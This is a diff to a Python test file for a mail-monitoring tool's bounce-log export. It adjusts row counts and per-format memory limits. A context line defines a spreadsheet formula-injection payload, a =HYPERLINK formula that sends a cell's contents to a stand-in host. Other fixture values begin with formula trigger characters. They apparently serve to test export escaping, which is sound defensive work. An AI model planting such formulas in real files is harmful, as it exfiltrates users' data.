@@ -27,8 +27,9 @@ from tests.store.bouncelog.samples import BOB, INBOX, NOON, RUN, seen
 DOCS = Path(__file__).parents[2] / "docs" / "bounce-log.md"
 xlsx = pytest.mark.skipif(not find_spec("xlsxwriter"), reason="XlsxWriter is not installed")
 # `make soak` exports 100,000. What grows with the rows would take a kilobyte or more for each.
-ROWS = int(os.environ.get("MAILMON_ROWS", "20000"))
-MAX_GROWN_KIB = {20_000: 16, 100_000: 40}.get(ROWS, 40) * 1024
+ROWS = int(os.environ.get("MAILMON_ROWS", "5000"))
+# XlsxWriter alone takes some 12 MiB. Full runs (MAILMON_ROWS=100000) have a bound of 40 MiB.
+MAX_GROWN_MIB = {5_000: {"xlsx": 16, "csv": 6, "json": 6}}.get(ROWS, dict.fromkeys(("xlsx", "csv", "json"), 40))
 EVIL = '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")'
 ORIGINAL = Original(EVIL, "-1, two\r\nlines", "@x", ("+a@example.org", "=b@example.org"), ())
 
@@ -174,6 +175,6 @@ def test_many_rows_are_exported_in_little_memory(large: Path, form: str, mask: s
     command = [sys.executable, "-c", PROGRAM, str(large), form, mask]
     said = subprocess.run(command, capture_output=True, text=True, check=True).stdout.split()
     grown_kib, took_s = int(said[0]), float(said[1])
-    assert grown_kib < MAX_GROWN_KIB, f"{form}: {grown_kib} KiB in {took_s:.1f} s"
+    assert grown_kib < MAX_GROWN_MIB[form] * 1024, f"{form}: {grown_kib} KiB in {took_s:.1f} s"
     assert large.with_name("out").stat().st_size > 10 * ROWS
     print(form, mask, said)
